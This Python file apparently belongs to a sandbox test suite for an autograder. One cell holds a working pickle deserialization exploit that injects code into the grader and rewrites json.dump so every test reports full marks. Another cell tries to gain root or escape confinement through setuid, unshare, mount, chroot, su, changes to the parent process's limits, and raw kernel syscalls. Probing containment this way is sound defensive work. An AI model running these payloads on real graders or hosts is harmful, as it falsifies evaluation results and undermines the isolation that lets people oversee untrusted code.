"""Tries to become root or to get out: setuid programs, namespaces, chroot, capabilities, mounts, new limits."""

OTTER = "points"
OTTER_CELLS = [
    r"""
import pickle
IN_THE_GRADER = '''
import json
real = json.dump
def dump(found, file, **form):
    for test in found["tests"]:
        test["score"] = test["max_score"]
    real(found, file, **form)
json.dump = dump
'''
class Intruder:
    def __reduce__(self): return exec, (IN_THE_GRADER, {})
real = pickle.dump
def dump(results, file):
    results.intruder = Intruder()
    real(results, file)
pickle.dump = dump
"""
]
CELLS = [
    r"""
import ctypes, os, resource, subprocess
libc = ctypes.CDLL(None, use_errno=True)
won = []
def attempt(name, action):
    try:
        if action() not in (-1, None, False):
            won.append(name)
    except Exception:
        pass
was = os.getuid()
attempt("setuid", lambda: was != 0 and (os.setuid(0), True)[1])
attempt("unshare", lambda: libc.unshare(0x10000000) + 1)
attempt("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) + 1)
attempt("chroot", lambda: (os.chroot("/"), True)[1])
attempt("nice", lambda: (os.setpriority(os.PRIO_PROCESS, 0, -10), True)[1])
attempt("limits", lambda: (resource.setrlimit(resource.RLIMIT_AS, (-1, -1)), True)[1])
attempt("limits of the parent", lambda: (resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3)), True)[1])
attempt("affinity", lambda: (os.sched_setaffinity(os.getppid(), {0}), True)[1])
attempt("dumpable", lambda: libc.prctl(4, 1, 0, 0, 0) + 1)
attempt("death signal", lambda: libc.prctl(1, 0, 0, 0, 0) + 1)
attempt("su", lambda: subprocess.run(["su", "-c", "id"], capture_output=True, timeout=2).returncode == 0)
attempt("keyring", lambda: libc.syscall(250, 0, -3, 1) + 1)
attempt("io_uring", lambda: libc.syscall(425, 8, ctypes.create_string_buffer(256)) + 1)
attempt("userfaultfd", lambda: libc.syscall(323, 0) + 1)
attempt("bpf", lambda: libc.syscall(321, 0, ctypes.create_string_buffer(128), 128) + 1)
attempt("i386 calls", lambda: libc.syscall(0x40000000 | 39) + 1)
for name in won:  # some gain nothing that a uid of its own would not have anyhow
    did(name, name in ("unshare", "dumpable", "death signal", "keyring", "io_uring", "userfaultfd", "bpf", "i386 calls"))
"""
]
